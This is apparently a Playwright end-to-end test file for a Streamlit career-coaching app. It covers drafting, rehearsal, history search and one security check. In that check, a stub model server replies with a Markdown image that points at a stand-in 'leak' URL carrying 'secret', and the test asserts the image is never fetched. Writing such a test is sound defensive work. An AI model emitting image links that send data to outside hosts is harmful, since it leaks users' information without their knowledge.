"""The app in a real browser: Debian's Chromium driven by Playwright against `streamlit run app.py`.

Screenshots go to test-artifacts/ (gitignored); with COACH_UPDATE_SCREENSHOTS=1 (`make screenshots`)
the Drafts and Rehearse screenshots are also written to docs/screenshots/, where the README shows them.
"""

from __future__ import annotations

import email
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from email import policy
from pathlib import Path
from typing import Any

import pytest
from llm_server import LLMServer
from playwright.sync_api import expect
from ui.helpers import copy_index

from coach.config import PROJECT_DIR, Settings
from coach.rehearsal.scenarios import get_scenario
from coach.tasks.registry import get_task

pytestmark = pytest.mark.e2e

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox", "--headless=new", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run",
]
ARTIFACTS = PROJECT_DIR / "test-artifacts" / "e2e"
SCREENSHOTS = PROJECT_DIR / "docs" / "screenshots"
STARTUP_LIMIT_S = 120  # a cold start imports torch and chromadb on a busy 2-core machine
STEP_MS = 90_000
LEAK_HOST = "127.0.0.1:9"
LEAK_MARKDOWN = f"![x](http://{LEAK_HOST}/leak?q=secret)"

OUTREACH_VALUES = {
    "mentor_name": "Dr. Amaka Okafor",
    "mentor_context": "leads clinical informatics at Leeds Teaching Hospitals",
    "why_them": "your talk on night-shift handover checklists",
    "about_me": "third-year nursing student",
    "goal": "moving from bedside nursing into clinical informatics",
    "ask": "a 20-minute video call next month",
}
SCENARIO = "frequent-cancels"
REHEARSAL_TURNS = (
    "Thanks for making time today. I wanted to talk about how our meetings have been going.",
    "I've noticed we've had to reschedule a few times lately, and I'd love to find a rhythm that works for you.",
    "Would a shorter 20-minute check-in every two weeks be easier? What would suit you best?",
)

if not CHROMIUM.exists():  # `make test` installs it first (the `browser` target)
    pytest.skip("Chromium is not installed at /usr/bin/chromium (run `make browser`)", allow_module_level=True)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


class StreamlitApp:
    """`streamlit run app.py` as a child process on a free loopback port."""

    def __init__(self, data_dir: Path, extra_env: dict[str, str], log_name: str) -> None:
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "COACH_"))}
        env.update({"COACH_DATA_DIR": str(data_dir), "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1",
                    "PYTHONUNBUFFERED": "1", **extra_env})
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        self.log_path = ARTIFACTS / log_name
        self._log = self.log_path.open("wb")
        command = [
            sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(self.port),
            "--server.address", "127.0.0.1", "--server.headless", "true", "--server.fileWatcherType", "none",
            "--browser.gatherUsageStats", "false",
        ]
        self.process = subprocess.Popen(command, cwd=PROJECT_DIR, env=env, stdout=self._log,
                                        stderr=subprocess.STDOUT)

    def wait_healthy(self) -> None:
        deadline = time.monotonic() + STARTUP_LIMIT_S
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"streamlit exited early; see {self.log_path}")
            try:
                with urllib.request.urlopen(f"{self.url}/_stcore/health", timeout=5) as answer:
                    if answer.read().strip() == b"ok":
                        return
            except OSError:
                time.sleep(0.5)
        raise RuntimeError(f"streamlit did not become healthy; see {self.log_path}")

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(timeout=10)
        self._log.close()


def _data_dir_with_index(root: Path, source: Settings) -> Path:
    data_dir = root / "coach-data"
    copy_index(source.index_dir, data_dir / "index")
    return data_dir


@pytest.fixture(scope="module")
def offline_app(tmp_path_factory: pytest.TempPathFactory, guidance_settings: Settings) -> Iterator[StreamlitApp]:
    data_dir = _data_dir_with_index(tmp_path_factory.mktemp("e2e-offline"), guidance_settings)
    app = StreamlitApp(data_dir, {}, "streamlit-offline.log")  # no key, no URL: auto means offline
    try:
        app.wait_healthy()
        yield app
    finally:
        app.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield chromium
        finally:
            chromium.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1360, "height": 1000}, accept_downloads=True)
    context.set_default_timeout(STEP_MS)
    tab = context.new_page()
    try:
        yield tab
    finally:
        context.close()


def _screenshot(page: Any, name: str, publish_from: str | None = None) -> None:
    """A full-length screenshot as an artifact; with ``publish_from``, also a README picture from that text down."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.wait_for_timeout(800)  # let the last rerun's fade-in finish so nothing is greyed out
    size = page.viewport_size
    # Streamlit scrolls an inner container, not the document: size the window to the tallest one.
    height = page.evaluate("() => Math.max(...[...document.querySelectorAll('*')].map(e => e.scrollHeight))")
    page.set_viewport_size({"width": size["width"], "height": min(max(height, size["height"]), 6000)})
    page.wait_for_timeout(300)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"))
    page.set_viewport_size(size)
    if publish_from is not None:
        page.get_by_text(publish_from).first.evaluate("el => el.scrollIntoView({block: 'start'})")
        page.wait_for_timeout(300)
        # The README pictures are committed, so a normal test run leaves them alone;
        # `make screenshots` sets COACH_UPDATE_SCREENSHOTS=1 to refresh them.
        target = SCREENSHOTS if os.environ.get("COACH_UPDATE_SCREENSHOTS") == "1" else ARTIFACTS / "readme"
        target.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(target / f"{name}.png"))


def _open(page: Any, url: str, heading: str) -> None:
    page.goto(url)
    page.get_by_role("heading", name=heading).first.wait_for()
    _wait_idle(page)


def _wait_idle(page: Any) -> None:
    """Wait until Streamlit has finished the current run (no 'running' indicator)."""
    page.wait_for_function(
        "() => !document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=STEP_MS
    )


def _chat(page: Any, text: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    box.wait_for()
    page.wait_for_function(
        "() => { const t = document.querySelector('[data-testid=\"stChatInputTextArea\"]'); return t && !t.disabled; }"
    )
    box.fill(text)
    box.press("Enter")


def test_draft_rehearse_and_find_both_in_history(offline_app: StreamlitApp, page: Any) -> None:
    # Open the app: the Coach page, with the engine indicator in the sidebar.
    _open(page, offline_app.url, "Coach")
    assert "Offline" in page.get_by_test_id("stSidebar").inner_text()
    _screenshot(page, "coach")

    # Draft an outreach message and see its checks.
    _open(page, f"{offline_app.url}/drafts", "Drafts")
    spec = get_task("outreach")
    for name, value in OUTREACH_VALUES.items():
        field = spec.field(name)
        page.get_by_label(re.compile(rf"^{re.escape(field.label)}( \(required\))?$")).fill(value)
    page.get_by_role("button", name="Write the draft").click()
    page.get_by_text(re.compile(r"Checks: \d+/\d+ passed")).wait_for()
    _wait_idle(page)
    expect(page.get_by_label("Draft", exact=True)).to_have_count(0)  # rendered, not raw Markdown in a box
    expect(page.get_by_test_id("stMain")).to_contain_text("Dr. Okafor")  # the honorific is kept as given
    _screenshot(page, "drafts", publish_from="Your draft")

    # Download the .eml and read it back as an email.
    with page.expect_download() as download_info:
        page.get_by_role("button", name=re.compile(r"\.eml")).click()
    eml_path = ARTIFACTS / "outreach.eml"
    download_info.value.save_as(str(eml_path))
    message = email.message_from_bytes(eml_path.read_bytes(), policy=policy.default)
    assert message["Subject"]
    assert "Dr. Okafor" in message.get_body().get_content()

    # Play a three-turn rehearsal and see the debrief.
    _open(page, f"{offline_app.url}/rehearse", "Rehearse")
    page.get_by_test_id("stSelectbox").first.click()
    page.get_by_role("option", name=get_scenario(SCENARIO).title).click()
    _wait_idle(page)
    page.get_by_role("button", name="Start the rehearsal").click()
    page.get_by_text("Briefing:").first.wait_for()
    _wait_idle(page)
    for number, turn in enumerate(REHEARSAL_TURNS, start=1):
        _chat(page, turn)
        page.get_by_test_id("stChatMessage").filter(has_text=turn[:40]).first.wait_for()
        _wait_idle(page)
        expect(page.get_by_test_id("stChatMessage")).to_have_count(1 + 2 * number)  # opening, then pairs
        if page.get_by_role("heading", name="Debrief").count():
            break  # the partner was won over early: the rehearsal ended by itself
    if not page.get_by_role("heading", name="Debrief").count():
        page.get_by_role("button", name="End and debrief").click()
    page.get_by_role("heading", name="Debrief").wait_for()
    _wait_idle(page)
    page.get_by_text(re.compile(r"A better line\.|A line to add\.")).first.wait_for()
    page.get_by_test_id("stVegaLiteChart").first.wait_for()  # the per-criterion chart
    _screenshot(page, "rehearse", publish_from=REHEARSAL_TURNS[-1][:30])

    # Both are in History, and search finds the draft by the mentor's name.
    _open(page, f"{offline_app.url}/history", "History")
    rehearsal_title = get_scenario(SCENARIO).title
    page.get_by_text(rehearsal_title).first.wait_for()
    # (Streamlit sends the page element by element: wait for the draft's row too, not only the rehearsal's)
    page.get_by_text(f"{spec.title}: Dr. Amaka Okafor").first.wait_for()
    _wait_idle(page)
    listing = page.get_by_test_id("stMain").inner_text()
    assert f"{spec.title}: Dr. Amaka Okafor" in listing
    assert rehearsal_title in listing
    search = page.get_by_label("Search your history")
    search.fill("Amaka")
    search.press("Enter")
    page.wait_for_function(f"() => !document.body.innerText.includes({rehearsal_title!r})")
    _wait_idle(page)
    assert f"{spec.title}: Dr. Amaka Okafor" in page.get_by_test_id("stMain").inner_text()
    _screenshot(page, "history")


@pytest.fixture(scope="module")
def leaking_llm() -> Iterator[LLMServer]:
    server = LLMServer()
    server.responder = lambda request: f"Ask for one specific thing [1]. {LEAK_MARKDOWN} Then follow up."
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def llm_app(
    tmp_path_factory: pytest.TempPathFactory, guidance_settings: Settings, leaking_llm: LLMServer
) -> Iterator[StreamlitApp]:
    data_dir = _data_dir_with_index(tmp_path_factory.mktemp("e2e-llm"), guidance_settings)
    env = {"COACH_ENGINE": "llm", "OPENAI_BASE_URL": leaking_llm.base_url, "COACH_MODEL": leaking_llm.model}
    app = StreamlitApp(data_dir, env, "streamlit-llm.log")
    try:
        app.wait_healthy()
        yield app
    finally:
        app.stop()


def test_an_image_in_a_model_reply_is_never_fetched(llm_app: StreamlitApp, leaking_llm: LLMServer, page: Any) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    _open(page, llm_app.url, "Coach")
    assert leaking_llm.model in page.get_by_test_id("stSidebar").inner_text()
    _chat(page, "How do I ask a senior colleague for feedback?")
    page.get_by_text("Then follow up").first.wait_for()
    _wait_idle(page)
    page.get_by_test_id("stFeedback").first.wait_for()  # the saved, re-rendered answer is on screen
    _screenshot(page, "image-leak")

    assert leaking_llm.requests, "the reply must really have come from the loopback model server"
    assert not [url for url in requested if LEAK_HOST in url]
    assert page.locator(f'img[src*="{LEAK_HOST}"]').count() == 0
    assert "image removed" in page.locator("body").inner_text()
